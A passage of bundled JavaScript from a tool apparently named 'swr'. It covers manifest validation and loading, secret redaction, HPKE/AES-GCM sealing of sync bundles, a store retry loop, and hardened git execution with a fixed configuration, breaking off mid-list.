6172},message:"must NOT have more than 6172 characters"};if(vErrors === null){vErrors = [err30];}else {vErrors.push(err30);}errors++;}if(manifest_validator_func1(data11) < 6168){const err31 = {instancePath:instancePath+"/signatures/" + i0+"/sig",schemaPath:"#/$defs/mldsaSignature/properties/sig/minLength",keyword:"minLength",params:{limit: 6168},message:"must NOT have fewer than 6168 characters"};if(vErrors === null){vErrors = [err31];}else {vErrors.push(err31);}errors++;}if(!manifest_validator_pattern28.test(data11)){const err32 = {instancePath:instancePath+"/signatures/" + i0+"/sig",schemaPath:"#/$defs/mldsaSignature/properties/sig/pattern",keyword:"pattern",params:{pattern: "^[A-Za-z0-9+/]+={0,2}$"},message:"must match pattern \""+"^[A-Za-z0-9+/]+={0,2}$"+"\""};if(vErrors === null){vErrors = [err32];}else {vErrors.push(err32);}errors++;}}else {const err33 = {instancePath:instancePath+"/signatures/" + i0+"/sig",schemaPath:"#/$defs/mldsaSignature/properties/sig/type",keyword:"type",params:{type: "string"},message:"must be string"};if(vErrors === null){vErrors = [err33];}else {vErrors.push(err33);}errors++;}}}else {const err34 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/$defs/mldsaSignature/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err34];}else {vErrors.push(err34);}errors++;}if(props0 !== true){props0 = true;}}else {const err35 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/properties/signatures/items/discriminator",keyword:"discriminator",params:{error: "mapping", tag: "alg", tagValue: tag0},message:"value of tag \"alg\" must be in oneOf"};if(vErrors === null){vErrors = [err35];}else {vErrors.push(err35);}errors++;}}else {const err36 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/properties/signatures/items/discriminator",keyword:"discriminator",params:{error: "tag", tag: "alg", tagValue: tag0},message:"tag \"alg\" must be string"};if(vErrors === null){vErrors = [err36];}else {vErrors.push(err36);}errors++;}}else {const err37 = {instancePath:instancePath+"/signatures/" + i0,schemaPath:"#/properties/signatures/items/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err37];}else {vErrors.push(err37);}errors++;}}}else {const err38 = {instancePath:instancePath+"/signatures",schemaPath:"#/properties/signatures/type",keyword:"type",params:{type: "array"},message:"must be array"};if(vErrors === null){vErrors = [err38];}else {vErrors.push(err38);}errors++;}}}else {const err39 = {instancePath,schemaPath:"#/type",keyword:"type",params:{type: "object"},message:"must be object"};if(vErrors === null){vErrors = [err39];}else {vErrors.push(err39);}errors++;}manifest_validator_validate20.errors = vErrors;return errors === 0;}manifest_validator_validate20.evaluated = {"props":true,"dynamicProps":false,"dynamicItems":false};

;// CONCATENATED MODULE: ./src/core/manifest/validate.ts





/**
 * Every problem with `value` as a manifest document, each naming its line and entry. `source`,
 * the JSON text `value` was read from, lets the look at every string be skipped when no string
 * could hold a control character (most manifests).
 */
function validate_manifestProblems(value, where, source) {
    const text = source !== undefined && !jsonMayHoldControl(source) ? [] : textProblems(value, where);
    const rest = manifest_validator_validate(value)
        ? ruleProblems(value, where)
        : schemaProblems(value, manifest_validator_validate.errors ?? [], where);
    return [...new Set([...text, ...rest])];
}
/**
 * Strings that are shell code or a directory (recipes, smoke commands, the shell's argv, the
 * workspace) may hold newlines and tabs, never NUL (no process can receive it). Every other string
 * is a name, path, key, rule or note that ends up on a line of output: no control character
 * (U+0000-U+001F, U+007F-U+009F) and no bidi control, which would let it break or reorder the line.
 */
const CODE_FIELD = [
    /^\/body\/workspace$/,
    /^\/body\/shell\/\d+$/,
    /^\/body\/entries\/\d+\/restore(\/\d+)?$/,
    /^\/body\/entries\/\d+\/smoke$/,
    /^\/body\/sealed\/\d+\/restore(\/\d+)?$/,
    /^\/body\/sealed\/\d+\/smoke$/
];
function badCharacter(s, code) {
    for (let i = 0; i < s.length; i++) {
        const c = s.charCodeAt(i);
        if (code ? c === 0 : controls_isControl(c))
            return i;
    }
    return -1;
}
function textProblems(doc, where) {
    const out = [];
    const visit = (v, pointer) => {
        if (out.length >= 50)
            return;
        if (typeof v === 'string') {
            const at = badCharacter(v, CODE_FIELD.some(re => re.test(pointer)));
            if (at >= 0) {
                const c = v.charCodeAt(at).toString(16).toUpperCase().padStart(4, '0');
                out.push(v.charCodeAt(at) === 0
                    ? `${subject(doc, pointer, where)} contains a NUL byte`
                    : `${subject(doc, pointer, where)} contains a control character (U+${c} at character ${at + 1})`);
            }
        }
        else if (Array.isArray(v))
            v.forEach((x, i) => visit(x, `${pointer}/${i}`));
        else if (v !== null && typeof v === 'object')
            for (const [k, x] of Object.entries(v))
                visit(x, `${pointer}/${k.replace(/~/g, '~0').replace(/\//g, '~1')}`);
    };
    visit(doc, '');
    return out;
}
function jsonPath(pointer) {
    return ('$' +
        pointer
            .split('/')
            .slice(1)
            .map(s => s.replace(/~1/g, '/').replace(/~0/g, '~'))
            .map(s => /^\d+$/.test(s)
            ? `[${s}]`
            : /^[A-Za-z_$][\w$]*$/.test(s)
                ? `.${s}`
                : `[${JSON.stringify(s)}]`)
            .join(''));
}
/** "manifest.json:12: entry "tools" field expect.mode" — the subject of a message. */
function subject(doc, pointer, where) {
    const parts = pointer.split('/').slice(1);
    let line;
    for (let n = parts.length; n >= 0 && line === undefined; n--) {
        line = where.lines.get(n === 0 ? '$' : jsonPath('/' + parts.slice(0, n).join('/')));
    }
    const loc = `${where.file}${line ? `:${line}` : ''}`;
    const m = /^\/body\/(entries|sealed)\/(\d+)(\/.*)?$/.exec(pointer);
    if (m) {
        const list = m[1] === 'sealed' ? 'sealed' : 'entries';
        const entries = doc.body?.[list];
        const entry = entries?.[Number(m[2])];
        const kind = list === 'sealed' ? 'sealed entry' : 'entry';
        const name = typeof entry?.id === 'string' ? `${kind} ${quoted(entry.id)}` : `${kind} #${Number(m[2]) + 1}`;
        const field = (m[3] ?? '').slice(1).replace(/\//g, '.');
        return `${loc}: ${name}${field ? ` field ${field}` : ''}`;
    }
    const field = pointer.slice(1).replace(/\//g, '.');
    return `${loc}: ${field ? `field ${field}` : 'document'}`;
}
function schemaProblems(doc, errors, where) {
    const out = [];
    for (const e of errors) {
        // if/then failures only repeat the error found inside the branch.
        if (e.keyword === 'if')
            continue;
        const params = e.params;
        let pointer = e.instancePath;
        let text;
        switch (e.keyword) {
            case 'additionalProperties':
            case 'unevaluatedProperties': {
                const key = String(params.additionalProperty ?? params.unevaluatedProperty);
                pointer = `${pointer}/${key}`;
                text = 'is not a known field';
                break;
            }
            case 'required':
                pointer = `${pointer}/${String(params.missingProperty)}`;
                text = 'is required';
                break;
            case 'pattern':
                text = `must match ${String(params.pattern)}`;
                break;
            case 'enum':
                text = `must be one of ${JSON.stringify(params.allowedValues)}`;
                break;
            case 'const':
                text = `must be ${JSON.stringify(params.allowedValue)}`;
                break;
            default:
                text = e.message ?? e.keyword;
        }
        const line = `${subject(doc, pointer, where)} ${text}`;
        if (!out.includes(line))
            out.push(line);
    }
    return out;
}
function ruleProblems(doc, where) {
    const out = [];
    const at = (i, field) => subject(doc, `/body/entries/${i}${field ? `/${field}` : ''}`, where);
    const body = doc.body;
    for (const key of ['created', 'expires']) {
        const v = body[key];
        if (v !== undefined && !isRealDate(v)) {
            out.push(`${subject(doc, `/body/${key}`, where)} is not a real date: ${v}`);
        }
    }
    const ids = new Map();
    const paths = new Map();
    body.entries.forEach((e, i) => {
        if (ids.has(e.id))
            out.push(`${at(i, 'id')} duplicates entry #${(ids.get(e.id) ?? 0) + 1}`);
        ids.set(e.id, i);
        const problem = paths_pathProblem(e.path);
        if (problem)
            out.push(`${at(i, 'path')} ${problem}`);
        const other = paths.get(e.path);
        if (other !== undefined)
            out.push(`${at(i, 'path')} is also the path of entry ${quoted(other)}`);
        paths.set(e.path, e.id);
        out.push(...kindProblems(e).map(p => `${at(i, p.field)} ${p.text}`));
    });
    const sealed = body.sealed ?? [];
    const atSealed = (i, field) => subject(doc, `/body/sealed/${i}${field ? `/${field}` : ''}`, where);
    sealed.forEach((e, i) => {
        if (ids.has(e.id))
            out.push(`${atSealed(i, 'id')} is also the id of another entry`);
        ids.set(e.id, i);
        const problem = e.path === '.' ? 'is the workspace itself' : paths_pathProblem(e.path);
        if (problem)
            out.push(`${atSealed(i, 'path')} ${problem}`);
        const other = paths.get(e.path);
        if (other !== undefined)
            out.push(`${atSealed(i, 'path')} is also the path of entry ${quoted(other)}`);
        paths.set(e.path, e.id);
        const template = parseTemplate(e.key);
        if (typeof template === 'string')
            out.push(`${atSealed(i, 'key')} ${template}`);
        if (e.ignore && e.kind !== 'tree')
            out.push(`${atSealed(i, 'ignore')} is for trees only`);
        for (const [k, text] of ruleSetProblems(e.ignore ?? []))
            out.push(`${atSealed(i, `ignore/${k}`)} ${text}`);
    });
    const needsOf = (list, place) => list.forEach((e, i) => {
        for (const need of e.needs) {
            if (need === e.id)
                out.push(`${place(i, 'needs')} names the entry itself`);
            else if (!ids.has(need))
                out.push(`${place(i, 'needs')} names unknown entry ${quoted(need)}`);
        }
    });
    needsOf(body.entries, at);
    needsOf(sealed, atSealed);
    const cycle = findCycle([...body.entries, ...sealed]);
    if (cycle)
        out.push(`${where.file}: dependency cycle: ${cycle.join(' -> ')}`);
    return out;
}
function kindProblems(e) {
    if (e.kind !== 'tree')
        return [];
    const out = [];
    e.expect.sentinels.forEach((s, k) => {
        const problem = innerPathProblem(s);
        if (problem)
            out.push({ field: `expect/sentinels/${k}`, text: problem });
    });
    for (const [k, text] of ruleSetProblems(e.ignore))
        out.push({ field: `ignore/${k}`, text });
    if (e.expect.max_files !== undefined && e.expect.min_files > e.expect.max_files) {
        out.push({ field: 'expect/min_files', text: `is above max_files (${e.expect.max_files})` });
    }
    return out;
}
/** The first `needs` cycle found, as ids from start back to start, or undefined. Iterative, so a
 * chain of 10,000 entries cannot overflow the stack. */
function findCycle(entries) {
    const needs = new Map(entries.map(e => [e.id, e.needs]));
    const state = new Map();
    for (const start of entries) {
        if (state.has(start.id))
            continue;
        const trail = [start.id];
        const cursor = [0];
        state.set(start.id, 'open');
        while (trail.length > 0) {
            const id = trail[trail.length - 1];
            const next = (needs.get(id) ?? [])[cursor[cursor.length - 1]];
            if (next === undefined) {
                state.set(id, 'done');
                trail.pop();
                cursor.pop();
                continue;
            }
            cursor[cursor.length - 1] = cursor[cursor.length - 1] + 1;
            if (!needs.has(next) || state.get(next) === 'done')
                continue;
            if (state.get(next) === 'open')
                return [...trail.slice(trail.indexOf(next)), next];
            state.set(next, 'open');
            trail.push(next);
            cursor.push(0);
        }
    }
    return undefined;
}
/** True for a timestamp whose fields name a real instant (Date.parse rolls 2026-02-30 over). */
function isRealDate(v) {
    const t = Date.parse(v);
    if (Number.isNaN(t))
        return false;
    return new Date(t).toISOString().slice(0, 19) === v.slice(0, 19);
}

;// CONCATENATED MODULE: ./src/core/manifest/load.ts








/** Read and judge the manifest at `file`; throws ManifestError naming every problem. */
function load_loadManifest(file, opts = {}) {
    const abs = external_node_path_default().resolve(opts.cwd ?? process.cwd(), file);
    const shown = external_node_path_default().relative(opts.cwd ?? process.cwd(), abs) || abs;
    const text = readBounded(abs, shown);
    const parsed = load_parseManifestText(text, shown);
    const { doc, format, notes } = parsed;
    const workspace = load_resolveWorkspace(abs, doc.body.workspace, opts);
    return {
        file: abs,
        format,
        doc,
        body: doc.body,
        digest: canonical_manifestDigest(doc.body),
        workspace,
        lines: parsed.lines,
        notes
    };
}
/** Strict parse, format detection and validation of manifest text; `shown` names it in messages. */
function load_parseManifestText(text, shown) {
    let parsed;
    try {
        parsed = parseStrictJson(text);
    }
    catch (err) {
        if (err instanceof StrictJsonError) {
            throw new errors_ManifestError(`${shown}:${err.problems[0]}`, err.problems.map(p => `${shown}:${p}`));
        }
        throw err;
    }
    const notes = [];
    let doc;
    let format;
    if (isV2Document(parsed.value)) {
        const converted = convertV2(parsed.value, shown);
        doc = converted.doc;
        notes.push(...converted.notes);
        format = 2;
    }
    else {
        doc = parsed.value;
        format = 3;
    }
    // A converted format-2 document is not the text: its strings are always looked at.
    const problems = validate_manifestProblems(doc, { lines: format === 3 ? parsed.lines : new Map(), file: shown }, format === 3 ? text : undefined);
    if (problems.length > 0) {
        const more = problems.length > 1 ? ` (and ${problems.length - 1} more)` : '';
        throw new errors_ManifestError(`${problems[0]}${more}`, problems);
    }
    // Only annotations ask where an entry is declared: found then, not at every load.
    return { doc, format, notes, lines: lazyMap(() => entryLines(doc, parsed.lines)) };
}
/** Entry id → the line where the entry is declared. */
function entryLines(doc, at) {
    const lines = new Map();
    doc.body.entries.forEach((e, i) => {
        const line = at.get(`$.body.entries[${i}]`) ?? at.get(`$.entries[${i}]`);
        if (line !== undefined)
            lines.set(e.id, line);
    });
    return lines;
}
function readBounded(abs, shown) {
    let fd;
    try {
        // O_NONBLOCK: a FIFO planted at the manifest path must not hang the tool.
        fd = external_node_fs_default().openSync(abs, (external_node_fs_default()).constants.O_RDONLY | (external_node_fs_default()).constants.O_NONBLOCK);
    }
    catch (err) {
        const code = errors_errnoCode(err);
        if (code === 'ENOENT')
            throw new errors_ManifestError(`${shown}: no such manifest (run "swr init" or "swr add PATH")`);
        throw new errors_ManifestError(`${shown}: cannot open (${code ?? String(err)})`);
    }
    try {
        const st = external_node_fs_default().fstatSync(fd);
        if (!st.isFile())
            throw new errors_ManifestError(`${shown}: not a regular file`);
        if (st.size > DEFAULT_LIMITS.maxBytes) {
            throw new errors_ManifestError(`${shown}: ${st.size} bytes, over the ${DEFAULT_LIMITS.maxBytes}-byte manifest limit`);
        }
        const buf = Buffer.alloc(st.size);
        let got = 0;
        while (got < st.size) {
            const n = external_node_fs_default().readSync(fd, buf, got, st.size - got, got);
            if (n === 0)
                break;
            got += n;
        }
        read_fingerprint_noteManifestBytes(abs, buf.subarray(0, got));
        const decoder = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true });
        try {
            return decoder.decode(buf.subarray(0, got)).replace(/^\uFEFF/, '');
        }
        catch {
            throw new errors_ManifestError(`${shown}: not valid UTF-8`);
        }
    }
    finally {
        external_node_fs_default().closeSync(fd);
    }
}
/** The workspace: `--workspace`, else the manifest's (relative to the manifest's directory). */
function load_resolveWorkspace(manifestFile, declared, opts) {
    const base = opts.workspace
        ? external_node_path_default().resolve(opts.cwd ?? process.cwd(), opts.workspace)
        : external_node_path_default().resolve(external_node_path_default().dirname(manifestFile), declared);
    let real = base;
    try {
        real = external_node_fs_default().realpathSync(base);
    }
    catch {
        // A missing workspace is a finding for the check (everything MISSING), not a load error.
    }
    if (real === '/' || base === '/') {
        throw new errors_ManifestError(`workspace "/" is refused: describe a directory, not the whole machine`);
    }
    return real;
}

;// CONCATENATED MODULE: ./src/core/sync/redact.ts
/**
 * A copy published in clear has its known token shapes (GitHub, GitLab, npm, OpenAI, Hugging Face,
 * Slack, AWS, Google, JWTs, PEM private keys, URL passwords: run/scrub.ts) replaced by `${VAR}`
 * references before it leaves the machine; `pull --expand VAR` fills them back from the environment.
 *
 * Each distinct value gets its own variable (GITHUB_TOKEN, then GITHUB_TOKEN_2, …), never one whose
 * `${NAME}` already appears in the text, so expansion touches exactly what redaction replaced. The
 * values are replaced as they appear in the manifest's JSON text, and filled back JSON-escaped:
 * the expanded text is byte for byte the signed one, so its signatures hold again (and a wrong or
 * missing value is refused by the signature gate, never written).
 *
 * The copy names its own variables, and a planted copy could name any (SECRET_X, AWS_SECRET_...):
 * only the variables the user names on the command line are ever read, and the caller verifies the
 * expanded text's signatures before anything can quote it.
 */


function preview(value) {
    return value.length <= 12 ? '…' : `${value.slice(0, 4)}…${value.slice(-4)}`;
}
function redact_redact(text) {
    const byValue = new Map();
    const used = new Set();
    const previews = {};
    const nameFor = (base, value) => {
        const known = byValue.get(value);
        if (known)
            return known;
        let name = base;
        for (let n = 2; used.has(name) || text.includes(`\${${name}}`); n++)
            name = `${base}_${n}`;
        used.add(name);
        byValue.set(value, name);
        previews[name] = preview(value);
        return name;
    };
    let out = text;
    for (const { re, variable } of NAMED_TOKEN_SHAPES)
        out = out.replace(re, (m) => `\${${nameFor(variable, m)}}`);
    return { text: out, variables: [...used], previews };
}
/** A variable name as redaction makes them (and a bundle may list). */
const redact_VARIABLE_NAME = /^[A-Z][A-Z0-9_]{0,63}$/;
/**
 * `text` with each `${VAR}` of `variables` (the copy's list) filled from `env`, JSON-escaped. Every
 * one must be in `named` (the user's --expand list), or nothing is read; unset ones are refused.
 * Errors name variables, never values.
 */
function redact_expand(text, variables, named, env) {
    const unnamed = variables.filter(v => !named.includes(v));
    if (unnamed.length > 0)
        throw new SwrError(`pulled bundle refused: it was redacted (${variables.join(', ')}): pass --expand with each variable to fill from the environment (not named: ${unnamed.join(', ')})`, EXIT.UNREPAIRABLE);
    const missing = variables.filter(v => env[v] === undefined || env[v] === '');
    if (missing.length > 0)
        throw new UsageError(`pull --expand: ${missing.join(', ')} ${missing.length === 1 ? 'is' : 'are'} not set (the copy was redacted; set ${missing.length === 1 ? 'it' : 'them'} to the original values)`);
    let out = text;
    for (const v of variables)
        out = out.split(`\${${v}}`).join(JSON.stringify(env[v]).slice(1, -1));
    return out;
}

;// CONCATENATED MODULE: ./src/core/sync/bundle.ts
/**
 * Off-box copies of the recipe book: the signed manifest with its tree indexes, packed into one
 * bundle that `swr push` stores and `swr pull` brings back after a wipe.
 *
 * A bundle is sealed by default: a fresh 256-bit content key encrypts it with AES-256-GCM, and that
 * key is sealed with HPKE (RFC 9180: the X-Wing hybrid post-quantum KEM, ML-KEM-768 + X25519,
 * HKDF-SHA256, AES-256-GCM) once per recipient (this machine's sync key, named peers). A bundle in
 * clear exists only when the user asked for it, and then never carries escrow (see redact.ts).
 * Sealing is not trust: a pulled manifest is still verified (strict parse, schema, signatures
 * through the gate) before anything writes or runs it.
 */



/** The first format: one recipient, the whole bundle sealed with HPKE (still read). */
const SYNC_FORMAT_V1 = 'swr-sync/1';
const SYNC_FORMAT = 'swr-sync/2';
const SUITE_NAME = 'HPKE(X-Wing, HKDF-SHA256, AES-256-GCM)';
const SUITE_V2 = (/* unused pure expression or super */ null && (`${SUITE_NAME} + AES-256-GCM`));
const INFO_V1 = new TextEncoder().encode('swr manifest bundle v1');
const INFO = new TextEncoder().encode('swr manifest bundle v2: content key');
const bundle_MAX_BUNDLE_BYTES = (/* unused pure expression or super */ null && (96 * 1024 * 1024));
/** Recipients one bundle may be sealed to (each adds about 1.5 KiB). */
const MAX_RECIPIENTS = 32;
async function suite() {
    const [{ CipherSuite, HkdfSha256, Aes256Gcm }, { XWing }] = await Promise.all([
        Promise.all(/* import() */[__webpack_require__.e(84), __webpack_require__.e(573)]).then(__webpack_require__.bind(__webpack_require__, 79573)),
        Promise.all(/* import() */[__webpack_require__.e(84), __webpack_require__.e(948)]).then(__webpack_require__.bind(__webpack_require__, 82948))
    ]);
    return new CipherSuite({ kem: new XWing(), kdf: new HkdfSha256(), aead: new Aes256Gcm() });
}
function ab(bytes) {
    return new Uint8Array(bytes).buffer;
}
/** The X-Wing public key of a sync seed (what `swr peer mine` prints). */
async function bundle_syncPublicKey(seed) {
    const s = await suite();
    const kp = await s.kem.deriveKeyPair(ab(seed));
    return Buffer.from(await s.kem.serializePublicKey(kp.publicKey));
}
/** A short, non-secret name of a recipient's public key. */
function bundle_recipientId(publicKey) {
    return createHash('sha256')
        .update('swr-sync-recipient\0')
        .update(publicKey)
        .digest('hex')
        .slice(0, 16);
}
/** Length of a serialized X-Wing public key. */
const bundle_PUBLIC_KEY_BYTES = 1216;
/** A public key as typed or pasted (base64, spaces and line breaks allowed), or undefined. */
function bundle_parsePublicKey(text) {
    const clean = text.replace(/\s+/g, '');
    if (!/^[A-Za-z0-9+/]+={0,2}$/.test(clean))
        return undefined;
    const bytes = Buffer.from(clean, 'base64');
    return bytes.length === bundle_PUBLIC_KEY_BYTES ? bytes : undefined;
}
/** Pack in clear (the caller decided it may: no escrow, tokens redacted). */
function bundle_packPlain(bundle) {
    return Buffer.from(JSON.stringify({ format: SYNC_FORMAT, sealed: false, bundle }));
}
/** Pack sealed to every public key in `recipients` (at least one). */
async function bundle_packSealed(bundle, recipients) {
    if (recipients.length === 0 || recipients.length > MAX_RECIPIENTS)
        throw new SwrError(`a bundle is sealed to 1 to ${MAX_RECIPIENTS} recipients, not ${recipients.length}`, EXIT.BAD_MANIFEST);
    const s = await suite();
    const contentKey = randomBytes(32);
    const iv = randomBytes(12);
    const cipher = createCipheriv('aes-256-gcm', contentKey, iv);
    cipher.setAAD(Buffer.from(SYNC_FORMAT));
    const ct = Buffer.concat([
        cipher.update(Buffer.from(JSON.stringify(bundle))),
        cipher.final(),
        cipher.getAuthTag()
    ]);
    const sealedFor = [];
    for (const pub of recipients) {
        const sender = await s.createSenderContext({
            recipientPublicKey: await s.kem.deserializePublicKey(ab(pub)),
            info: INFO
        });
        const key = await sender.seal(ab(contentKey), ab(iv));
        sealedFor.push({
            id: bundle_recipientId(pub),
            enc: Buffer.from(sender.enc).toString('base64'),
            key: Buffer.from(key).toString('base64')
        });
    }
    contentKey.fill(0);
    const env = {
        format: SYNC_FORMAT,
        sealed: true,
        suite: SUITE_V2,
        recipients: sealedFor,
        iv: iv.toString('base64'),
        ct: ct.toString('base64')
    };
    return Buffer.from(JSON.stringify(env));
}
function bundle_refuse(why) {
    return new SwrError(`pulled bundle refused: ${why}`, EXIT.UNREPAIRABLE);
}
function isBundle(v) {
    const b = v;
    return (typeof b === 'object' &&
        b !== null &&
        typeof b.manifest === 'string' &&
        typeof b.trees === 'object' &&
        b.trees !== null &&
        Object.values(b.trees).every(x => typeof x === 'string') &&
        (b.redacted === undefined ||
            (Array.isArray(b.redacted) &&
                b.redacted.length <= 1000 &&
                b.redacted.every(x => typeof x === 'string' && VARIABLE_NAME.test(x)))));
}
function parseBundle(text) {
    let bundle;
    try {
        bundle = JSON.parse(text);
    }
    catch {
        throw bundle_refuse('malformed bundle');
    }
    if (!isBundle(bundle))
        throw bundle_refuse('malformed bundle');
    return bundle;
}
/** What an envelope says about itself before it is opened (for `swr sync status`). */
function envelopeInfo(bytes) {
    try {
        const env = JSON.parse(bytes.toString('utf8'));
        if (!env.sealed)
            return { sealed: false, recipients: [] };
        if (env.format === SYNC_FORMAT_V1)
            return { sealed: true, recipients: [env.recipient] };
        return { sealed: true, recipients: env.recipients.map(r => String(r.id)) };
    }
    catch {
        return undefined;
    }
}
/**
 * Unpack (and open, with `seed`) a bundle; every malformed or unopenable input is a clean refusal.
 * A bundle in clear is accepted only with `allowPlain` (sealed is the default on both ends).
 */
async function bundle_unpackBundle(bytes, seed, opts = {}) {
    if (bytes.length > bundle_MAX_BUNDLE_BYTES)
        throw bundle_refuse(`${bytes.length} bytes, over the ${bundle_MAX_BUNDLE_BYTES}-byte limit`);
    let env;
    try {
        env = JSON.parse(bytes.toString('utf8'));
    }
    catch {
        throw bundle_refuse('not a bundle');
    }
    const format = env?.format;
    if (format !== SYNC_FORMAT && format !== SYNC_FORMAT_V1)
        throw bundle_refuse(`unknown format ${JSON.stringify(format)?.slice(0, 40)}`);
    if (!env.sealed) {
        if (!isBundle(env.bundle))
            throw bundle_refuse('malformed bundle');
        if (opts.allowPlain === false)
            throw bundle_refuse('it was stored in clear (pass --plaintext-ok to accept it)');
        return { bundle: env.bundle, sealed: false };
    }
    if (!seed)
        throw bundle_refuse('it is sealed and no sync key is available (SWR_SYNC_KEY, or "swr keygen" on the machine that pushed)');
    const plain = env.format === SYNC_FORMAT_V1 ? await openV1(env, seed) : await openV2(env, seed);
    return { bundle: parseBundle(plain), sealed: true };
}
function b64(v, what) {
    if (typeof v !== 'string')
        throw bundle_refuse(`malformed ${what}`);
    return ab(Buffer.from(v, 'base64'));
}
/** This machine's HPKE recipient context for one sealed slot (`enc`: its encapsulated key). */
async function recipientFor(seed, enc, info) {
    const s = await suite();
    const kp = await s.kem.deriveKeyPair(ab(seed));
    return s.createRecipientContext({ recipientKey: kp.privateKey, enc, info });
}
async function openV1(env, seed) {
    if (env.suite !== SUITE_NAME)
        throw bundle_refuse(`unknown suite ${String(env.suite).slice(0, 80)}`);
    if (env.recipient !== bundle_recipientId(await bundle_syncPublicKey(seed)))
        throw bundle_refuse('it is sealed to another sync key');
    try {
        const recipient = await recipientFor(seed, b64(env.enc, 'enc'), INFO_V1);
        return new TextDecoder().decode(await recipient.open(b64(env.ct, 'ciphertext')));
    }
    catch {
        throw bundle_refuse('it does not open (altered in transit or storage)');
    }
}
async function openV2(env, seed) {
    if (env.suite !== SUITE_V2)
        throw bundle_refuse(`unknown suite ${String(env.suite).slice(0, 80)}`);
    if (!Array.isArray(env.recipients) || env.recipients.length > MAX_RECIPIENTS)
        throw bundle_refuse('malformed recipient list');
    const mine = bundle_recipientId(await bundle_syncPublicKey(seed));
    const slot = env.recipients.find(r => r?.id === mine);
    if (!slot)
        throw bundle_refuse('it is sealed to another sync key');
    const iv = Buffer.from(b64(env.iv, 'iv'));
    const ct = Buffer.from(b64(env.ct, 'ciphertext'));
    if (iv.length !== 12 || ct.length < 16)
        throw bundle_refuse('it does not open (malformed ciphertext)');
    try {
        const recipient = await recipientFor(seed, b64(slot.enc, 'enc'), INFO);
        const contentKey = Buffer.from(await recipient.open(b64(slot.key, 'sealed key'), ab(iv)));
        const decipher = createDecipheriv('aes-256-gcm', contentKey, iv);
        decipher.setAAD(Buffer.from(SYNC_FORMAT));
        decipher.setAuthTag(ct.subarray(ct.length - 16));
        const plain = Buffer.concat([decipher.update(ct.subarray(0, ct.length - 16)), decipher.final()]);
        contentKey.fill(0);
        return plain.toString('utf8');
    }
    catch {
        throw bundle_refuse('it does not open (altered in transit or storage)');
    }
}
/** The cache key family for one manifest: the newest push wins on pull. */
function syncKeyPrefix(scope) {
    return `swr-manifest-v1-${createHash('sha256').update(scope).digest('hex').slice(0, 16)}-`;
}
function bundle_sha256Hex(bytes) {
    return createHash('sha256').update(bytes).digest('hex');
}

;// CONCATENATED MODULE: ./src/core/sync/store.ts
/**
 * Where a pushed bundle lives. Every store does three things: `put` bytes and say where they went
 * (a locator: one string that names the store and the copy), `get` the bytes back by locator, and
 * `stat` a locator (reachable, and when it was stored when the store knows). The stores:
 *
 *   git:REMOTE              a remote name, URL or bare repository path; the bundle is a commit on
 *                           refs/swr/NAME (git-store.ts)
 *   http://… / https://…    a URL template taking PUT and serving GET (http-store.ts)
 *   actions                 the GitHub Actions cache (adapters/actions-cache-store.ts)
 *
 * Locators and store spellings come from the user, a recovery code or a record on disk: they are
 * parsed strictly here, and nothing in them reaches a shell.
 */

/** Names of copies (a git ref component, a URL path segment). */
const store_NAME_RE = /^[A-Za-z0-9][A-Za-z0-9._-]{0,63}$/;
function store_checkName(name) {
    if (!store_NAME_RE.test(name) || name.includes('..') || name.endsWith('.lock'))
        throw new UsageError(`bad copy name ${JSON.stringify(name.slice(0, 80))}: use 1-64 letters, digits, ".", "_" or "-"`);
    return name;
}
/** A failure that may pass if tried again later (a 429 or 5xx, a reset connection). */
class store_Transient extends Error {
    retryAfterS;
    constructor(message, 
    /** Seconds the store asked to wait (Retry-After). */
    retryAfterS) {
        super(message);
        this.retryAfterS = retryAfterS;
        this.name = 'Transient';
    }
}
function store_storeError(spelling, why) {
    return new SwrError(`${spelling}: ${why}`, EXIT.UNREPAIRABLE);
}
const store_sleep = (ms) => new Promise(r => setTimeout(r, ms));
/**
 * Run `op` until it succeeds, fails for good, or the deadline passes. A Transient failure is retried
 * after its Retry-After, else after an exponential backoff (0.5 s, 1 s, 2 s, … at most 8 s); a wait
 * that would end past the deadline is not started.
 */
async function store_withRetries(what, ctx, op) {
    const end = Date.now() + ctx.deadlineMs;
    for (let attempt = 0;; attempt++) {
        try {
            return await op();
        }
        catch (err) {
            if (!(err instanceof store_Transient))
                throw err;
            const backoff = Math.min(8000, 500 * 2 ** attempt);
            const waitMs = err.retryAfterS !== undefined ? err.retryAfterS * 1000 : backoff;
            if (Date.now() + waitMs >= end)
                throw new SwrError(`${what}: ${err.message}; gave up after ${attempt + 1} attempt${attempt ? 's' : ''} (the ${Math.round(ctx.deadlineMs / 1000)} s limit)`, EXIT.UNREPAIRABLE);
            ctx.note?.(`${what}: ${err.message}; trying again in ${(waitMs / 1000).toFixed(1)} s`);
            await store_sleep(waitMs);
        }
    }
}
/** The kind of store a spelling or locator names. */
function store_storeKind(spec) {
    if (spec.startsWith('git:'))
        return 'git';
    if (/^https?:\/\//i.test(spec))
        return 'http';
    if (spec === 'actions' || spec.startsWith('actions:'))
        return 'actions';
    return undefined;
}

;// CONCATENATED MODULE: ./src/core/git/run.ts
/**
 * The one way swr runs git. A repository's configuration can name commands (`core.fsmonitor`,
 * hooks, `core.sshCommand`, aliases, pagers) and `.git/config` is a file that a cache restore or
 * an earlier step can write, so git runs here with a fixed configuration laid over whatever the
 * repository says, and with an environment holding only what git needs to reach a remote: never
 * the job's tokens, the HMAC key or a recipe's secrets.
 *
 * A local repository git pushes into or fetches from runs its own receive-pack/upload-pack, which
 * would run the receiving repository's hooks; `localTransport` spells those with the same fixed
 * configuration, so no hook of either side runs.
 */

/** Laid over every configuration git reads: nothing here can make git run a command. */
const FIXED_CONFIG = (/* unused pure expression or super */ null && ([
    'core.hooksPath=/dev/null',
    'core.fsmonitor=false',
    'core.untrackedCache=false',
    'core.pager=cat',
    'core.editor=false',
    'core.askPass=',
    'core.alternateRefsCommand=true',
    'diff.external=',
    'protocol.ext.allow=never'
]));
/** Variables git may see: locale, home, temp, and how this user reaches remotes. */
const PASSED = new Set([
    'PATH',
    'HOME',
    'LANG',
    'LC_ALL',
    'TMPDIR',
    'XDG_CONFIG_HOME',
    'SSH_AUTH_SOCK',
    'GIT_SSH_COMMAND',
    'HTTP_PROXY',
    'HTTPS_PROXY',
    'NO_PROXY',
